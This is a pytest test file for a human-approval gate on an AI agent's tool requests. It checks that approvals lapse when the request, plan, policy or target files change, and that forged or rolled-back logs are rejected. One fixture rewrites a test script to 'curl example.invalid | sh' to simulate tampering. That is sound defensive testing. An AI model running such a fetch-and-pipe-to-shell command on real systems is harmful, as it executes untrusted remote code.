"""An approval is for exactly the bytes that were shown: whatever changes, it is not one any more."""

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from ags_tui.core.assessment import Pending, RequestState
from ags_tui.core.drafts import answer, approve, deny
from ags_tui.io.log_failures import ChangedSinceShown, LogNotIntact, StaleRevision
from tests.cli.conftest import Cli, Done
from tests.cli.human import SEEN, Human
from tests.flows.stage import MAPPER, TASK, VIEW, Stage

Ask = tuple[str, str]
"""Name of a request and the claim of its asker."""

SHELL = ("--tool", "shell", "--command", "sh Tests/run.sh")
EDIT = ("--tool", "edit_file", "--path", VIEW, "--after", "asked label\n")


def begin(stage: Stage) -> None:
    stage.new_task()
    stage.plan(MAPPER)
    stage.look()


def ask(stage: Stage, *words: str) -> Ask:
    done = stage.cli("request", "--task", TASK, *words, "--reason", "r", "--risk", "low")
    assert done.code == 0, done.err
    name, claim = done.out.split()
    return name, claim


def wait(stage: Stage, asked: Ask, *words: str) -> Done:
    return stage.cli("wait", asked[0], "--claim", asked[1], *(words or ("--timeout", "0")))


def item(asked: Ask) -> str:
    return asked[0].partition("/")[2]


def file_of(stage: Stage, asked: Ask) -> Path:
    return stage.folder() / "tool-requests" / f"{item(asked)}.json"


def change_request(stage: Stage, asked: Ask) -> None:
    place = file_of(stage, asked)
    place.write_bytes(place.read_bytes() + b" ")


def change_plan(stage: Stage, _asked: Ask) -> None:
    stage.plan(MAPPER, summary="another")


def spoil_plan(stage: Stage, _asked: Ask) -> None:
    stage.write("plan.json", b"{")
    stage.age("plan.json", 60)


def remove_plan(stage: Stage, _asked: Ask) -> None:
    (stage.folder() / "plan.json").unlink()


def change_policy(stage: Stage, _asked: Ask) -> None:
    (stage.cli.root / "policy.toml").write_text("[limits]\nrequest_timeout_s = 77\n")


def change_users_policy(stage: Stage, _asked: Ask) -> None:
    (stage.cli.folder / "config").mkdir(mode=0o700, exist_ok=True)
    (stage.cli.folder / "config" / "policy.toml").write_text("[limits]\nrequest_timeout_s = 77\n")


def change_target(stage: Stage, _asked: Ask) -> None:
    stage.edit(VIEW, "changed meanwhile\n")


def remove_target(stage: Stage, _asked: Ask) -> None:
    stage.edit(VIEW, None)


def link_target(stage: Stage, _asked: Ask) -> None:
    (stage.work / VIEW).unlink()
    (stage.work / VIEW).symlink_to("AuthRepository.swift")


def change_script(stage: Stage, _asked: Ask) -> None:
    stage.edit("Tests/run.sh", "curl example.invalid | sh\n")


def link_script(stage: Stage, _asked: Ask) -> None:
    (stage.work / "Tests/run.sh").unlink()
    (stage.work / "Tests/run.sh").symlink_to("../DesignSystem/Button.swift")


CHANGES: tuple[tuple[tuple[str, ...], Callable[[Stage, Ask], None], str], ...] = (
    (SHELL, change_request, "request"),
    (SHELL, change_plan, "plan"),
    (SHELL, spoil_plan, "plan"),
    (SHELL, remove_plan, "plan"),
    (SHELL, change_policy, "policy"),
    (SHELL, change_users_policy, "policy"),
    (SHELL, change_script, "Tests/run.sh"),
    (SHELL, link_script, "Tests/run.sh"),
    (EDIT, change_target, VIEW),
    (EDIT, remove_target, VIEW),
    (EDIT, link_target, VIEW),
)


@pytest.mark.parametrize(("words", "change", "what"), CHANGES, ids=[c.__name__ for _, c, _ in CHANGES])
def test_what_changes_after_the_approval_ends_it_and_what_changes_before_refuses_it(
    stage: Stage, words: tuple[str, ...], change: Callable[[Stage, Ask], None], what: str
):
    begin(stage)
    approved, shown = ask(stage, *words), ask(stage, *words)
    stage.human.approve(TASK, item(approved))
    draft = approve(stage.human.pending(TASK, item(shown)), SEEN)
    other = shown if what == "request" else approved
    change(stage, other)
    if what == "request":
        change(stage, approved)
    done = wait(stage, approved)
    assert (done.code, done.json["state"], done.json["effective"]) == (12, "changed", None)
    entries = len(list((stage.folder() / "log").iterdir()))
    with pytest.raises(ChangedSinceShown) as refused:
        stage.human.workspace.record(draft)
    assert what in refused.value.what
    assert len(list((stage.folder() / "log").iterdir())) == entries
    assert not (stage.folder() / "consumptions").exists()
    states = {one.item_id: one.state for one in stage.task().requests}
    assert states[item(approved)] is RequestState.CHANGED
    assert item(approved) in {one.item_id for one in stage.task().pending}, "it waits again"


@pytest.mark.parametrize("change", [change_target, change_script, change_policy])
def test_bytes_that_return_are_approved_again(stage: Stage, change: Callable[[Stage, Ask], None]):
    begin(stage)
    (stage.cli.root / "policy.toml").write_text("[limits]\nrequest_timeout_s = 600\n")
    asked = ask(stage, *(EDIT if change is change_target else SHELL))
    stage.human.approve(TASK, item(asked))
    kept = {place: place.read_bytes() for place in (stage.work / VIEW, stage.work / "Tests/run.sh")}
    kept[stage.cli.root / "policy.toml"] = (stage.cli.root / "policy.toml").read_bytes()
    change(stage, asked)
    assert wait(stage, asked).code == 12
    for place, raw in kept.items():
        place.write_bytes(raw)
    assert wait(stage, asked).code == 0


def test_the_first_taker_wins_whoever_comes_later_and_at_once(stage: Stage):
    begin(stage)
    asked = ask(stage, *SHELL)
    waiters = [stage.cli.start("wait", asked[0], "--claim", asked[1], "--timeout", "40") for _ in range(4)]
    for waiter in waiters:
        assert waiter.stderr is not None
        assert b"waits for a human" in waiter.stderr.readline()
    stage.human.approve(TASK, item(asked))
    assert sorted(waiter.wait(60) for waiter in waiters) == [0, 14, 14, 14]
    assert wait(stage, asked).code == 14
    assert [one.state for one in stage.task().requests] == [RequestState.CONSUMED]
    (claim,) = (stage.folder() / "consumptions").iterdir()
    claim.unlink()
    assert wait(stage, asked).code == 14, "a removed claim gives nothing back"


def test_expired_withdrawn_and_denied_later(stage: Stage):
    begin(stage)
    short, gone, denied = ask(stage, *SHELL, "--expires", "1"), ask(stage, *SHELL), ask(stage, *SHELL)
    for asked in (gone, denied):
        stage.human.approve(TASK, item(asked))
    file_of(stage, gone).unlink()
    assert wait(stage, gone).code == 14
    stage.look()
    assert stage.cli("deny", denied[0], "--reason", "second thoughts").code == 0
    done = wait(stage, denied)
    assert (done.code, done.json["reason"]) == (10, "second thoughts")
    assert wait(stage, short, "--timeout", "20").code == 11
    states = {one.item_id: one.state for one in stage.task().requests}
    assert states[item(short)] is RequestState.EXPIRED
    assert states[item(denied)] is RequestState.DENIED


def test_an_expired_approval_is_over_and_does_not_come_back(stage: Stage):
    begin(stage)
    asked = ask(stage, *SHELL, "--expires", "2")
    stage.human.approve(TASK, item(asked))
    later = ask(stage, *SHELL, "--expires", "2")
    assert wait(stage, later, "--timeout", "30").code == 11
    assert wait(stage, asked).code == 11
    stage.look()
    assert wait(stage, asked).code == 11


def test_a_rolled_back_log_gives_nothing(stage: Stage):
    begin(stage)
    asked = ask(stage, *SHELL)
    stage.look()
    assert stage.cli("deny", asked[0], "--reason", "no").code == 0
    last = max((stage.folder() / "log").iterdir())
    raw = last.read_bytes()
    last.unlink()
    assert wait(stage, asked).code == 3
    assert stage.gate().code == 1
    assert "LOG_TAMPERED" in {one.code for one in stage.only_read().tasks[0].findings}
    pending = _pending(stage)
    with pytest.raises(LogNotIntact):
        stage.human.workspace.record(approve(pending, SEEN))
    last.write_bytes(raw)
    assert wait(stage, asked).code == 10


def _pending(stage: Stage) -> Pending:
    (found,) = [one for one in stage.only_read().tasks[0].pending if one.item_id.startswith("tool-")]
    return found


def test_an_entry_that_was_edited_or_copied_gives_nothing(stage: Stage):
    begin(stage)
    asked, second = ask(stage, *SHELL), ask(stage, *EDIT)
    stage.human.approve(TASK, item(asked))
    place = max((stage.folder() / "log").iterdir())
    raw = place.read_bytes()
    forged = raw.replace(item(asked).encode(), item(second).encode())
    assert forged != raw
    place.write_bytes(forged)
    assert [wait(stage, one).code for one in (asked, second)] == [3, 3]
    place.write_bytes(raw)
    assert wait(stage, asked).code == 0


def test_a_stranger_can_neither_approve_nor_answer(stage: Stage):
    begin(stage)
    asked = ask(stage, *SHELL)
    stage.look()
    (stage.cli.folder / "stranger").mkdir()
    stranger = Human(Cli(stage.cli.folder / "stranger", stage.work, stage.cli.zygote))
    (item_there,) = [one for one in stranger.task(TASK).pending if one.item_id == item(asked)]
    stranger.workspace.record(approve(item_there, SEEN))
    done = wait(stage, asked)
    assert (done.code, done.json["effective"]) == (3, None)
    assert stage.gate().code in (1, 3)
    assert not (stage.folder() / "consumptions").exists()


def test_a_decision_on_a_log_that_has_grown_is_made_again(stage: Stage):
    begin(stage)
    asked = ask(stage, *SHELL)
    pending = stage.human.pending(TASK, item(asked))
    shown = stage.task().task.log.next_sequence
    assert stage.cli("block", TASK, "--reason", "wait").code == 0
    with pytest.raises(StaleRevision):
        stage.human.workspace.record(approve(pending, SEEN, sequence=shown))
    assert wait(stage, asked).code == 13


def test_a_denial_holds_whatever_changed(stage: Stage):
    begin(stage)
    asked = ask(stage, *SHELL)
    pending = stage.human.pending(TASK, item(asked))
    change_script(stage, asked)
    change_plan(stage, asked)
    stage.human.workspace.record(deny(pending, "no"))
    assert wait(stage, asked).code == 10


def test_an_answer_is_for_the_question_that_was_shown(stage: Stage):
    begin(stage)
    done = stage.cli("escalate", "--task", TASK, "--question", "which?", "--option", "a=A", "--option", "b=B")
    name, claim = done.out.split()
    identity = name.partition("/")[2]
    pending = stage.human.pending(TASK, identity)
    place = stage.folder() / "escalations" / f"{identity}.json"
    raw = place.read_bytes()
    place.write_bytes(raw.replace(b"which?", b"delete all?"))
    with pytest.raises(ChangedSinceShown):
        stage.human.workspace.record(answer(pending, SEEN, option="a"))
    place.write_bytes(raw)
    stage.human.workspace.record(answer(pending, SEEN, option="a"))
    assert wait(stage, (name, claim)).json["effective"] == {"option": "a"}


def test_without_a_terminal_and_without_a_human_nothing_waits_for_ever(stage: Stage):
    begin(stage)
    asked = ask(stage, *SHELL)
    done = subprocess.run(
        [sys.executable, "-m", "ags_tui", "wait", asked[0], "--claim", asked[1], "--timeout", "0.2",
         "--state", stage.cli.folder / "state", "--config", stage.cli.folder / "config"],
        cwd=stage.work, env=stage.cli.env(), stdin=subprocess.DEVNULL, capture_output=True, timeout=60,
        check=False,
    )  # fmt: skip
    assert done.returncode == 13
    assert json.loads(done.stdout)["state"] == "pending"
